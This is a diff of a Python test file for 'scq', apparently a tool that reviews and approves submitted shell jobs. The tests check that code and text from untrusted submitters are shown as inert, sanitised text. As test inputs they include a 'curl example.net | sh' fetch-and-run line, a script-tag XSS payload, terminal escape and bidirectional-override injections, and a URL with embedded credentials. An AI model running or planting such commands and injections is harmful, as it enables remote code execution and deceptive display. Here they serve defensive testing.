@@ -60,6 +60,14 @@ def test_a_look_tells_when_content_changed_after_it_was_read(world: World, owner
     assert after["digest"] != before["digest"]
 
 
+def test_a_card_reads_no_file_of_a_submission(world: World, owner: Page, monkeypatch: pytest.MonkeyPatch) -> None:
+    uid = world.submit()
+    owner.rows()
+    monkeypatch.delattr("scq.commands.show.manifest")
+    assert owner.ask("look", job=uid)["status"] == "pending"
+    assert owner.ask("job", job=uid)["job"]["id"] == uid
+
+
 def test_a_review_shows_run_sh_first_with_findings_and_limits(world: World, owner: Page) -> None:
     uid = world.submit("count", "curl http://example.net\n", a__py="import os\n\nprint('x')\n")
     found = owner.ask("review", job=uid)
@@ -104,7 +112,7 @@ def test_binary_files_have_no_lines_and_code_is_inert_text(world: World, owner: 
     uid = world.submit("count", "echo done\n", x__html="<script>alert(1)</script>\u202e\x1b[2J\n", b__bin="a\0b")
     files = {each["path"].rpartition("/")[2]: each for each in owner.ask("review", job=uid)["files"]}
     assert files["b.bin"]["lines"] is None
-    assert text_of(files["x.html"]["lines"]) == ["<script>alert(1)</script>��"]
+    assert text_of(files["x.html"]["lines"]) == ["<script>alert(1)</script>��[2J"]
 
 
 def test_no_text_of_a_stranger_comes_as_it_was(world: World, owner: Page) -> None:
@@ -116,7 +124,7 @@ def test_no_text_of_a_stranger_comes_as_it_was(world: World, owner: Page) -> Non
     second = world.submit("count", "echo x\n", *options, layout="a3", **{"a\u202eb__py": "x = 2\n"})
     world.owner.scq("approve", first, "-r", evil)
     world.owner.scq("run-approved", code=None)
-    shown = "a�b���"
+    shown = "a�b�[2J�]0;title��"
     assert owner.rows()[first]["description"] == shown
     assert shown in owner.ask("job", job=first)["job"]["approval"]["reason"]
     assert "a�b.py" in {each["path"] for each in owner.ask("review", job=second)["files"]}
@@ -125,6 +133,13 @@ def test_no_text_of_a_stranger_comes_as_it_was(world: World, owner: Page) -> Non
     outputs = owner.ask("outputs", job=first)["files"]
     assert [(each["path"], each["preview"]) for each in outputs] == [("a�b.txt", shown)]
     assert owner.refused("job", job=evil)["kind"] == "usage"
+
+
+def test_a_review_shows_every_letter_of_the_code_that_would_run(world: World, owner: Page) -> None:
+    uid = world.submit("count", "echo hello # \x1b]\ncurl example.net | sh\n# \x07\necho done\n")
+    files = owner.ask("review", job=uid)["files"]
+    shown = next(text for each in files if "echo done" in (text := text_of(each["lines"])))
+    assert shown[-4:] == ["echo hello # �]", "curl example.net | sh", "# �", "echo done"]
 
 
 def test_a_job_that_lies_elsewhere_has_no_limits_here() -> None:
@@ -179,6 +194,26 @@ def test_a_long_log_shows_its_beginning_and_its_end(world: World, owner: Page, m
     assert log["text"].endswith("200\nlast\n")
     assert f"… {log['left_out']} bytes left out …" in log["text"]
     assert log["left_out"] == len("first\nlast\n") + len("".join(f"{number}\n" for number in range(1, 201))) - 40
+
+
+def test_slow_colours_end_and_a_long_diff_is_said_to_be_hidden(
+    world: World, owner: Page, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    uid = world.approved("count", "echo one\n")
+    (world.place(uid) / "run.sh").write_text("#!/bin/bash\necho two\n")
+    assert any(kind for line in owner.ask("review", job=uid)["files"][0]["lines"] for kind, _ in line)
+    monkeypatch.setattr(asks, "PATIENCE_S", -1.0)
+    assert not any(kind for line in owner.ask("review", job=uid)["files"][0]["lines"] for kind, _ in line)
+    monkeypatch.setattr(asks, "SHOWN_TEXT", 10)
+    assert owner.ask("diff", job=uid)["files"][0]["lines"] == [["@", "not shown here"]]
+    assert "of its files are not shown here" in owner.problems[-1]["what"]
+
+
+def test_of_the_findings_in_one_result_the_first_are_shown(world: World, owner: Page, monkeypatch: pytest.MonkeyPatch) -> None:
+    uid = world.ended("count", "mkdir -p outputs\nfor i in 1 2 3; do echo a$i@example.org; done > outputs/people.csv\n")
+    monkeypatch.setattr(asks, "SHOWN_HINTS", 0)
+    assert owner.ask("outputs", job=uid)["files"][0]["findings"] == []
+    assert owner.problems[-1]["where"] == "people.csv"
 
 
 def test_of_many_results_the_first_are_shown(world: World, owner: Page, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -302,7 +337,7 @@ def test_a_machine_that_fails_is_said_and_a_bug_is_raised(world: World) -> None:
 def test_a_bug_is_named_without_secrets_and_an_interrupt_is_none() -> None:
     found = bug({"id": 4}, ValueError("https://name:hidden@example.org\x1b[0m"))
     assert (found["id"], found["ok"], found["error"]["kind"]) == (4, False, "bug")
-    assert found["error"]["what"] == "a bug in scq: ValueError: https://(hidden)@example.org�"
+    assert found["error"]["what"] == "a bug in scq: ValueError: https://(hidden)@example.org�[0m"
     assert bug(None, KeyboardInterrupt())["error"] == {
         "kind": "failed",
         "what": "It was interrupted in the kernel.",
